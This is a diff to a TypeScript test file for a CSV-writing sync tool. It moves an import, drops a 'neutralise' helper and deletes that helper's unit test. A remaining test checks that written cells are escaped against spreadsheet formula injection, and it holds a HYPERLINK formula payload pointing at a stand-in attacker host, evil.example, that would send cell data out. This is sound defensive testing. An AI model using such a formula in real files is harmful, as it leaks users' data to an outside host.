@@ -4,13 +4,12 @@ import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, readdirSync
 import os from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { neutralise } from '../../src/common/csv';
 import { startLocalOrg, type LocalOrg } from '../../src/localorg/index';
 import { OrgClient } from '../../src/org/client';
 import { connectionFor } from '../../src/org/connection';
 import { runSync, type SyncOptions, type SyncResult } from '../../src/sync/engine';
 import { loadPartnerFiles, loadReferralFiles } from '../../src/sync/fromConfig';
-import { defaultRetryPolicy } from '../../src/sync/retry';
+import { defaultRetryPolicy } from '../../src/org/retry';
 import { CheckpointStore } from '../../src/sync/state';
 import { localConfigSchema } from '../../src/config/localConfig';
 
@@ -75,11 +74,6 @@ describe('the files a sync writes', () => {
     expect(keys.some((k) => k.includes('HYPERLINK'))).toBe(true);
     for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
     expect(keys).toContain(`'=HYPERLINK("http://evil.example/?"&A1)`);
-  });
-
-  it('neutralise leaves plain numbers and ordinary text alone', () => {
-    expect(['-1,234.5', '+3%', '42', 'Acme', ''].map(neutralise)).toEqual(['-1,234.5', '+3%', '42', 'Acme', '']);
-    expect(['=1+1', '+A1', '-2+3', '@SUM(A1)', '\tx'].map(neutralise)).toEqual(["'=1+1", "'+A1", "'-2+3", "'@SUM(A1)", "'\tx"]);
   });
 
   it('run.log records the retries of a run under injected faults', async () => {
